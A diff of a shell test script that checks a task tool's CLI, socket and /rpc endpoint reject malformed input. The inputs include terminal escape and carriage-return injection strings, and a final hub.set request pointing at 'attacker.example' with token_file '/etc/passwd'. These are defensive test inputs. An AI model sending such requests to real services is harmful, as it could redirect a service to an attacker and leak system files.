@@ -24,35 +24,42 @@ message() { json_get 'd["error"]["message"]'; }
 
 # one bad call on all three surfaces: the same refusal
 check() {
-	desc=$1 params=$2 want=$3
+	what=$1 params=$2 needle=$3
 	req="{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"task.create\",\"params\":$params}"
-	expect_status "$desc: the CLI refuses it" 3 h --db "$TMP/s.db" call task.create "$params"
-	expect_contains "$desc: the CLI says what is wrong" "$want" "$ERR"
+	expect_status "$what: the CLI refuses it" 3 h --db "$TMP/s.db" call task.create "$params"
+	expect_contains "$what: the CLI says what is wrong" "$needle" "$ERR"
 	r=$(sock "$req")
-	expect_eq "$desc: the socket answers -32602" -32602 "$(echo "$r" | code)"
-	expect_contains "$desc: the socket says what is wrong" "$want" "$(echo "$r" | message)"
+	expect_eq "$what: the socket answers -32602" -32602 "$(echo "$r" | code)"
+	expect_contains "$what: the socket says what is wrong" "$needle" "$(echo "$r" | message)"
 	r=$(web "$req")
-	expect_eq "$desc: /rpc answers 400" 400 "${r%% *}"
-	expect_eq "$desc: /rpc answers -32602" -32602 "$(echo "${r#* }" | code)"
-	expect_contains "$desc: /rpc says what is wrong" "$want" "$(echo "${r#* }" | message)"
+	expect_eq "$what: /rpc answers 400" 400 "${r%% *}"
+	expect_eq "$what: /rpc answers -32602" -32602 "$(echo "${r#* }" | code)"
+	expect_contains "$what: /rpc says what is wrong" "$needle" "$(echo "${r#* }" | message)"
 }
 check "an unknown parameter" '{"title":"x","dodate":"fri"}' 'did you mean "do_date"'
 check "an escape character" '{"title":"x \u001b[2J"}' 'U+001B'
 check "a carriage return" '{"title":"x\rmasked"}' 'U+000D'
 check "a C1 control character" '{"title":"x \u009b"}' 'U+009B'
 check "a line break in a title" '{"title":"two\nlines"}' 'one line'
-check "NUL in a body" '{"title":"x","body":"a\u0000b"}' 'U+0000'
+check "a bell in a body" '{"title":"x","body":"ding\u0007"}' 'U+0007'
 check "a wrong type" '{"title":"x","tags":7}' 'must be one line of text or an array'
 check "an impossible date" '{"title":"x","do_date":"2026-02-30"}' 'do_date'
 
-# bytes that are not UTF-8 never reach a method: the JSON itself is refused
+# NUL and bytes that are not UTF-8 never reach a method: the JSON itself is
+# refused (-32700), saying why
+raw() { python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(open(sys.argv[2],"rb").read()+b"\n"); print(s.makefile("rb").readline().decode())' "$SOCK" "$1"; }
 printf '{"jsonrpc":"2.0","id":1,"method":"task.create","params":{"title":"caf\xe9"}}' > "$TMP/latin1.json"
-r=$(rpc "$SOCK" "$(cat "$TMP/latin1.json")")
-expect_eq "not UTF-8 on the socket: a parse error" -32700 "$(echo "$r" | code)"
-expect_contains "which says why" "UTF-8" "$(echo "$r" | message)"
-r=$(http POST "$HUB_URL/rpc" "$TOK" "$TMP/latin1.json")
-expect_eq "not UTF-8 at /rpc: 400" 400 "${r%% *}"
-expect_contains "which says why" "UTF-8" "$r"
+printf '{"jsonrpc":"2.0","id":1,"method":"task.create","params":{"title":"x","body":"a\\u0000b"}}' > "$TMP/nul.json"
+for f in latin1 nul; do
+	why=$([ $f = latin1 ] && echo "not valid UTF-8" || echo "U+0000")
+	r=$(raw "$TMP/$f.json")
+	expect_eq "$f on the socket: a parse error" -32700 "$(echo "$r" | code)"
+	expect_contains "$f on the socket: it says why" "$why" "$(echo "$r" | message)"
+	r=$(http POST "$HUB_URL/rpc" "$TOK" "$TMP/$f.json")
+	expect_eq "$f at /rpc: 400" 400 "${r%% *}"
+	expect_contains "$f at /rpc: it says why" "$why" "$r"
+	expect_status "$f through heph call: refused" 3 h --db "$TMP/s.db" call task.create "$(sed 's/.*"params"://; s/}$//' "$TMP/$f.json")"
+done
 
 # device-local methods: fine on the device, refused from the network
 r=$(web '{"jsonrpc":"2.0","id":1,"method":"hub.set","params":{"url":"http://attacker.example","token_file":"/etc/passwd"}}')
